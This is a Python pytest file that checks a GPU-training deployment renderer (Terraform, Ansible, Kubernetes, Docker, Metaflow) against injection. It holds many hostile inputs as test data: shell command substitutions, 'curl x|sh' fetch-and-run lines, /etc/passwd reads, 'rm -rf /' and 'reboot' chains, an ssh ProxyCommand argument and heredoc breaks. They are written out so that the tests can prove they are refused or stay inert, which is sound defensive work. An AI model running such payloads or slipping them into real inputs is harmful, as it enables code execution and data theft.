"""Issue 20, rendered deployment files: user values are data in every file of every target, never code.

Every target (aws, azure, gcp Terraform; onprem Ansible; k8s; the docker and metaflow files all of them ship) is
rendered from hostile values that pass their field's grammar (an image reference with IPv6 brackets, a glob to
bash; names and namespaces that YAML readers take for booleans or numbers), from a run config whose free-text
fields and file name carry shell, HCL-template and YAML syntax, and each output is read the way its consumer reads
it: the shell scripts are run (a command substitution that ran would create a marker file), the HCL is parsed,
the YAML loaded, the Dockerfile's instructions listed. Values outside their grammar are refused through the CLI
with one line naming the field, and nothing is written.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import hcl2
import jinja2
import pytest
import yaml

from deploy_readers import GoYamlLikeLoader, re2_fullmatch, templatefile
from gaudi3_scale.config.core import to_dict
from gaudi3_scale.deploy.node_command import deployment_run_config
from gaudi3_scale.deploy.render import RECORD_DIR, render
from gaudi3_scale.deploy.spec import DeploySpec
from gaudi3_scale.train.config import resolve_config

MARK = "injected"  # the file a command substitution in any payload would create (relative: each run's cwd)
SOURCE = "x\nGAUDI3_EOF\n$(touch injected)`touch injected`\nRUN curl x|sh\n'\"\\ end"
EXPERIMENT = '%{ if true }${file("/etc/passwd")}$${x}%%{y}\u2028kind: Secret'
CONFIG_NAME = "run\nGAUDI3_EOF\n$(touch injected)\nkind: Secret\nRUN curl x|sh\n${x}%{y}\x85\u2028.yaml"
CONFIG = f"""\
name: "y"
model: {{num_layers: 1}}
train: {{global_batch_size: 96}}
data: {{source: {json.dumps(SOURCE)}}}
monitor: {{experiment: {json.dumps(EXPERIMENT)}}}
"""
# Within their grammars, and still hostile: brackets (a glob in bash, a flow sequence in YAML), "y" and "1e3"
# (a boolean and a number to Go's yaml.v2 behind kubectl), "123" (an int as a YAML key), an IPv6 master.
IMAGE = "[::1]:5000/y/n__1e3--x:1e3@sha256:" + "0123456789abcdef" * 4
REGIONS = {"aws": "us-gov-west-1", "azure": "eastus2euap", "gcp": "me-central2-a"}
HOSTS = ("y", "123", "fe80::1", "10.0.0.1")
K8S_OPTIONS = {
    "namespace": "1e3",
    "storage_class": "y",
    "credentials_secret": "n",
    "cpu": "1e3",  # a byte size may not be bare (a bare number is bytes): cpu carries the YAML-number-like value
    "memory": "64Gi",
}
TARGETS = ("aws", "azure", "gcp", "onprem", "k8s")


def _spec(target: str, config: Path) -> DeploySpec:
    # onprem nodes keep --out on their own disks: a DDP run needs a remote mirror to resume from (`node_command`)
    mirror = ["--checkpoint.remote_url", "s3://y-bucket/y"] if target == "onprem" else []
    fields: dict[str, Any] = dict(target=target, accelerator="h100", nodes=2, per_node=8, config_path=config,
                                  run_config=to_dict(resolve_config(str(config), mirror)), name="y", image=IMAGE)  # fmt: skip
    if target in REGIONS:
        fields["region"] = REGIONS[target]
    if target == "onprem":
        fields.update(accelerator="gaudi3", nodes=len(HOSTS), hosts=HOSTS)
    if target == "k8s":
        fields["extra"] = K8S_OPTIONS
    return DeploySpec(**fields)


@pytest.fixture(scope="module")
def configs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(the hostile config file, the same content under a plain name)."""
    directory = tmp_path_factory.mktemp("configs")
    hostile, plain = directory / CONFIG_NAME, directory / "run.yaml"
    hostile.write_text(CONFIG)
    plain.write_text(CONFIG)
    return hostile, plain


@pytest.fixture(scope="module")
def rendered(configs: tuple[Path, Path]) -> dict[str, dict[str, str]]:
    return {target: render(_spec(target, configs[0])) for target in TARGETS}


@pytest.fixture(scope="module")
def run_config(configs: tuple[Path, Path]) -> dict[str, Any]:
    config = to_dict(resolve_config(str(configs[0]), []))
    assert config["data"]["source"] == SOURCE and config["monitor"]["experiment"] == EXPERIMENT
    return config


def _fake(bin_dir: Path, name: str, body: str) -> None:
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / name).write_text(f"#!/bin/bash\n{body}")
    (bin_dir / name).chmod(0o755)


# ---- shell: the scripts run, and every value arrives as itself ----------------------------------------------------


def _shell_files(files: dict[str, str]) -> dict[str, str]:
    return {rel: text for rel, text in files.items() if text.startswith(("#!/bin/bash", "#!/bin/sh"))}


@pytest.mark.parametrize("target", TARGETS)
def test_every_shell_script_parses(target: str, rendered: dict[str, dict[str, str]]) -> None:
    scripts = _shell_files(rendered[target])
    assert scripts, sorted(rendered[target])
    for rel, text in scripts.items():
        shell = "sh" if text.startswith("#!/bin/sh") else "bash"
        done = subprocess.run([shell, "-n", "-c", text], capture_output=True, text=True)
        assert done.returncode == 0, (rel, done.stderr)


def test_the_metaflow_launcher_passes_the_image_literally(
    rendered: dict[str, dict[str, str]], tmp_path: Path
) -> None:
    (tmp_path / "metaflow").mkdir()
    (tmp_path / "metaflow" / "run.sh").write_text(rendered["k8s"]["metaflow/run.sh"])
    (tmp_path / "1:5000" / "y").mkdir(parents=True)  # bait: an unquoted [::1]:5000/y… would glob onto it
    record = tmp_path / "record.json"
    fake = tmp_path / "bin" / "python"  # records what the launcher passes on
    fake.parent.mkdir()
    fake.write_text(f"#!{sys.executable}\nimport json, os, sys\njson.dump([sys.argv[1:], "
                    f"os.environ['METAFLOW_KUBERNETES_CONTAINER_IMAGE']], open({str(record)!r}, 'w'))\n")  # fmt: skip
    fake.chmod(0o755)
    env = {"PATH": f"{tmp_path / 'bin'}:/usr/bin:/bin"}
    subprocess.run(["sh", "metaflow/run.sh"], env=env, cwd=tmp_path, check=True)
    argv, image = json.loads(record.read_text())
    assert image == IMAGE and argv[argv.index("--out") + 1] == "runs/y-flow"
    assert not (tmp_path / MARK).exists()


def _rooted(script: str, root: Path) -> str:
    """The bootstrap with the system paths of its commands (not of the heredocs' text) moved under `root`."""
    out, delimiter = [], None
    for line in script.split("\n"):
        if delimiter is not None:
            delimiter = None if line == delimiter else delimiter
            out.append(line)
            continue
        opened = re.match(r"cat > \S+ <<'(\w+)'$", line)
        delimiter = opened.group(1) if opened else None
        out.append(re.sub(r"(?<=\s)/(etc|usr|var|run)/", rf"{root}/\1/", line))
    return "\n".join(out)


@pytest.mark.parametrize("target", sorted(REGIONS))
def test_the_node_bootstrap_writes_every_value_as_data(
    target: str, rendered: dict[str, dict[str, str]], configs: tuple[Path, Path], tmp_path: Path
) -> None:
    values = dict(node_rank=1, rdzv_host="10.0.0.5", nnodes=2, nproc_per_node=8, image=IMAGE,
                  checkpoint_url="s3://bucket/y", secrets={"HF_TOKEN": "/gaudi3/hf"}, region=REGIONS["aws"],
                  project="my-project", storage_account="acct", client_id="cid", key_vault_name="kv")  # fmt: skip
    script = templatefile(rendered[target]["terraform/bootstrap.sh.tftpl"], values)
    root = tmp_path / "root"
    for directory in ("etc/systemd/system", "usr/local/bin"):
        (root / directory).mkdir(parents=True)
    bin_dir = tmp_path / "bin"
    _fake(bin_dir, "install", 'mkdir -p "${@: -1}"\n')  # no chown to uid 10001 here
    _fake(bin_dir, "systemctl", 'echo "$@" >> "$SYSTEMCTL_LOG"\n')
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "SYSTEMCTL_LOG": str(tmp_path / "systemctl.log")}
    subprocess.run(["bash", "-c", _rooted(script, root)], env=env, cwd=tmp_path, check=True)
    assert yaml.safe_load((root / "etc/gaudi3/run.yaml").read_text()) == _spec(target, configs[0]).run_config
    node_env = dict(
        line.split("=", 1) for line in (root / "etc/gaudi3/node.env").read_text().splitlines() if line
    )
    assert node_env["IMAGE"] == IMAGE
    assert (tmp_path / "systemctl.log").read_text().splitlines()[-1] == "enable --now gaudi3-train.service"
    # the node's run script, with a docker that records its arguments
    _fake(bin_dir, "docker", 'printf "%s\\0" "$@" > "$ARGS_OUT"\n')
    env.update(node_env, ARGS_OUT=str(tmp_path / "args"))
    subprocess.run(["bash", str(root / "usr/local/bin/gaudi3-node")], env=env, cwd=tmp_path, check=True)
    argv = (tmp_path / "args").read_text().split("\0")[:-1]
    assert argv[argv.index("--entrypoint") + 2] == IMAGE
    assert not (tmp_path / MARK).exists()


def test_the_onprem_node_gets_its_values_as_data(rendered: dict[str, dict[str, str]], tmp_path: Path) -> None:
    files = rendered["onprem"]
    group = yaml.safe_load(files["ansible/inventory.yaml"])["all"]["children"]["gaudi3_nodes"]
    assert list(group["hosts"]) == list(HOSTS)  # "123" stays a string, "y" stays a host name
    assert group["vars"]["gaudi3_image"] == IMAGE and group["vars"]["gaudi3_master_addr"] == "y"
    # Ansible's Jinja: the playbook's docker pull, and node.env for the second host
    jinja = jinja2.Environment(undefined=jinja2.StrictUndefined)
    jinja.filters["quote"] = shlex.quote  # Ansible's quote filter
    (play,) = yaml.safe_load(files["ansible/playbook.yaml"])
    (pull,) = [t["ansible.builtin.command"] for t in play["tasks"] if "ansible.builtin.command" in t and "pull" in
               t["ansible.builtin.command"]]  # fmt: skip
    assert shlex.split(jinja.from_string(pull).render(**group["vars"])) == ["docker", "pull", IMAGE]
    text = jinja.from_string(files["ansible/templates/node.env.j2"]).render(
        node_rank=1, ansible_managed="managed", **group["vars"]
    )
    node_env = dict(line.split("=", 1) for line in text.splitlines() if line and not line.startswith("#"))
    assert node_env["IMAGE"] == IMAGE
    bin_dir = tmp_path / "bin"
    _fake(bin_dir, "docker", 'printf "%s\\0" "$@" > "$ARGS_OUT"\n')
    env = {**node_env, "PATH": f"{bin_dir}:/usr/bin:/bin", "ARGS_OUT": str(tmp_path / "args")}
    subprocess.run(["bash", "-c", files["ansible/files/gaudi3-node"]], env=env, cwd=tmp_path, check=True)
    argv = (tmp_path / "args").read_text().split("\0")[:-1]
    assert argv[argv.index("--entrypoint") + 2] == IMAGE
    assert not (tmp_path / MARK).exists()


# ---- YAML, HCL, Dockerfile: the parsed files hold exactly the values ----------------------------------------------


@pytest.mark.parametrize("target", TARGETS)
def test_yaml_files_give_back_exactly_the_values(
    target: str, rendered: dict[str, dict[str, str]], configs: tuple[Path, Path]
) -> None:
    docs = {
        rel: list(yaml.load_all(text, Loader=GoYamlLikeLoader))
        for rel, text in rendered[target].items()
        if rel.endswith(".yaml") and "templates/" not in rel
    }
    assert docs == {rel: list(yaml.safe_load_all(rendered[target][rel])) for rel in docs}
    expected = _spec(target, configs[0]).run_config  # with the device the deployment pins (hpu, cuda)
    assert docs["docker/run.yaml"] == [expected]
    if target != "k8s":
        return
    manifests = [d for rel, found in docs.items() if rel.startswith("k8s/") for d in found]
    pods = [r["template"]["spec"] for d in manifests if d["kind"] == "PyTorchJob"
            for r in d["spec"]["pytorchReplicaSpecs"].values()]  # fmt: skip
    pods += [d["spec"]["template"]["spec"] for d in manifests if d["kind"] == "Job"]
    assert len(pods) == 3 and {c["image"] for p in pods for c in p["containers"]} == {IMAGE}
    assert {c["resources"]["limits"]["cpu"] for p in pods for c in p["containers"]} == {"1e3"}
    assert {c["envFrom"][0]["secretRef"]["name"] for p in pods for c in p["containers"]} == {"n"}
    assert {d["metadata"].get("namespace", d["metadata"]["name"]) for d in manifests} == {"1e3"}
    (claim,) = [d for d in manifests if d["kind"] == "PersistentVolumeClaim"]
    assert (
        claim["spec"]["storageClassName"] == "y"
        and claim["spec"]["resources"]["requests"]["storage"] == "500Gi"
    )
    (config_map,) = [d for d in manifests if d["kind"] == "ConfigMap"]
    assert yaml.safe_load(config_map["data"]["run.yaml"]) == expected


_STRIP = hcl2.SerializationOptions(strip_string_quotes=True)


@pytest.mark.parametrize("target", sorted(REGIONS))
def test_hcl_files_parse_with_the_values_intact(target: str, rendered: dict[str, dict[str, str]]) -> None:
    files = {rel.removeprefix("terraform/"): t for rel, t in rendered[target].items() if rel.endswith(".tf")}
    trees = {name: hcl2.loads(text, serialization_options=_STRIP) for name, text in files.items()}
    variables = {k: v for block in trees["variables.tf"]["variable"] for k, v in block.items()}
    region_var = {"aws": "region", "azure": "location", "gcp": "zone"}[target]
    assert variables["image"]["default"] == IMAGE and variables["name"]["default"] == "y"
    assert variables[region_var]["default"] == REGIONS[target]
    # The validations hold a -var override to the same grammar: the rendered values pass, an injection does not.
    checks = {
        "image": (IMAGE, "img:1\nGAUDI3_EOF\ncurl x|sh"),
        region_var: (REGIONS[target], REGIONS[target] + "\n"),
    }
    for name, (good, bad) in checks.items():
        (literal,) = re.findall(
            r'regex\(("(?:[^"\\]|\\.)*")', files["variables.tf"].split(f'variable "{name}"')[1]
        )[:1]
        pattern = json.loads(literal)
        assert re2_fullmatch(pattern, good) and not re2_fullmatch(pattern, bad), name


def _instructions(dockerfile: str) -> list[str]:
    """The Dockerfile's instructions as BuildKit reads them: lines split at \\n only, comments and blank lines
    skipped, backslash continuations joined."""
    out, pending = [], ""
    for line in dockerfile.split("\n"):
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        pending += line[:-1] if line.endswith("\\") else line
        if not line.endswith("\\"):
            out.append(pending)
            pending = ""
    return out


def test_the_dockerfile_has_only_its_own_instructions(
    rendered: dict[str, dict[str, str]], configs: tuple[Path, Path]
) -> None:
    plain = DeploySpec(target="k8s", accelerator="h100", nodes=2, per_node=8, config_path=configs[1],
                       run_config=to_dict(resolve_config(str(configs[1]), [])), name="y", image="img:1")  # fmt: skip
    hostile = rendered["k8s"]["docker/Dockerfile"]
    assert _instructions(hostile) == _instructions(render(plain)["docker/Dockerfile"])
    assert all(i.split()[0] in {"ARG", "FROM", "LABEL", "ENV", "COPY", "RUN", "WORKDIR", "USER", "ENTRYPOINT",
                                "CMD", "EXPOSE", "HEALTHCHECK"} for i in _instructions(hostile))  # fmt: skip
    assert f"-t '{IMAGE}' <gaudi3-scale checkout>" in hostile  # the comments' commands quote it for a shell


@pytest.mark.parametrize("target", TARGETS)
def test_the_config_file_name_reaches_only_comments(
    target: str, rendered: dict[str, dict[str, str]], configs: tuple[Path, Path]
) -> None:
    """Its newlines, heredoc delimiter and YAML / Dockerfile syntax stay inside one comment line: every file is the
    same as with a plain name but for comment lines, line for line."""
    plain = render(_spec(target, configs[1]))
    assert sorted(plain) == sorted(rendered[target])
    for rel, text in rendered[target].items():
        lines, plain_lines = text.split("\n"), plain[rel].split("\n")
        assert len(lines) == len(plain_lines), rel
        for line, plain_line in zip(lines, plain_lines, strict=True):
            assert line == plain_line or (line.lstrip().startswith("#") and plain_line.lstrip().startswith("#")), (
                rel, line)  # fmt: skip


# ---- refused: one line naming the field, nothing written ---------------------------------------------------------

_ARGS = {"aws": ["--accelerator", "h100", "--nodes", "2", "--per-node", "8"],
         "azure": ["--accelerator", "h100", "--nodes", "2", "--per-node", "8"],
         "gcp": ["--accelerator", "h100", "--nodes", "2", "--per-node", "8"],
         "onprem": ["--accelerator", "gaudi3", "--nodes", "2", "--per-node", "8"],
         "k8s": ["--accelerator", "h100", "--nodes", "2", "--per-node", "8"]}  # fmt: skip


@pytest.mark.parametrize(
    ("target", "args", "needles"),
    [
        # the two cases the adversarial pass found (main 886094d)
        ("k8s", ["--image", "evil:1\nRUN curl x|sh"], ["--image", "OCI image reference", "evil:1\\nRUN"]),
        ("k8s", ["--image", "img:1$(id>/tmp/f)"], ["--image", "OCI image reference"]),
        ("aws", ["--image", "Img:1"], ["--image"]),
        ("k8s", ["--image", ""], ["--image", "got ''"]),
        ("aws", ["--region", 'us-east-1"; rm -rf /'], ["--region", "AWS region"]),
        ("aws", ["--region", '${file("/etc/passwd")}'], ["--region"]),
        ("azure", ["--region", "East US"], ["--region", "Azure location"]),
        ("gcp", ["--region", "us-central1"], ["--region", "zone such as us-central1-a"]),
        ("k8s", ["--region", "us-east-1"], ["--region", "--target k8s takes no region"]),
        ("onprem", ["--hosts", "a,b$(id)"], ["--hosts", "'b$(id)'"]),
        ("onprem", ["--hosts", "fe80::1%x\nIMAGE=evil:1,b"], ["--hosts", "zone id"]),
        ("onprem", ["--hosts", "-oProxyCommand=x,b"], ["--hosts"]),
        ("k8s", ["--hosts", "a,b"], ["--hosts", "only --target onprem"]),
        ("k8s", ["--set", "namespace=a$(id)"], ["k8s.namespace", "DNS-1123 label"]),
        ("k8s", ["--set", "namespace=Team"], ["k8s.namespace"]),
        ("k8s", ["--set", "namespace="], ["k8s.namespace"]),
        ("k8s", ["--set", 'storage_size="1Gi\\n"'], ["k8s.storage_size", "quantity"]),
        ("k8s", ["--set", "storage_class=a b"], ["k8s.storage_class", "DNS-1123 subdomain"]),
        ("k8s", ["--set", "credentials_secret=$(cat /etc/passwd)"], ["k8s.credentials_secret"]),
        ("k8s", ["--set", "cpu=1;reboot"], ["k8s.cpu", "quantity"]),
    ],
)
def test_values_outside_their_grammar_are_refused(
    gaudi3_cli: Any, tmp_path: Path, target: str, args: list[str], needles: list[str]
) -> None:
    config = tmp_path / "run.yaml"
    config.write_text("name: golden\nmodel: {num_layers: 1}\ntrain: {global_batch_size: 96}\n")
    out = tmp_path / "out"
    code, stdout, err = gaudi3_cli("deploy", "render", "--target", target, *_ARGS[target], "--config", str(config),
                                   "--out", str(out), *args)  # fmt: skip
    assert code == 2, (stdout, err)
    assert err.startswith("gaudi3: error: ") and err.count("\n") == 1, err
    assert all(n in err for n in needles), err
    assert not out.exists()


def test_the_cli_renders_hostile_but_valid_values(
    gaudi3_cli: Any, configs: tuple[Path, Path], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    sets = [a for k, v in K8S_OPTIONS.items() for a in ("--set", f"{k}={v}")]
    code, _, err = gaudi3_cli("deploy", "render", "--target", "k8s", *_ARGS["k8s"], "--config", str(configs[0]),
                                   "--out", str(out), "--image", IMAGE, *sets)  # fmt: skip
    assert code == 0, err
    on_disk = {str(p.relative_to(out)): p.read_text() for p in out.rglob("*") if p.is_file()}
    assert on_disk.pop(f"{RECORD_DIR}/k8s.files").splitlines() == sorted(on_disk)  # what the render wrote
    # the CLI resolves the file on the deployment's geometry (`deployment_run_config`)
    _, run_config = deployment_run_config(str(configs[0]), nodes=2, per_node=8)
    assert on_disk == render(dataclasses.replace(_spec("k8s", configs[0]), run_config=run_config))
    assert not (Path(os.getcwd()) / MARK).exists()
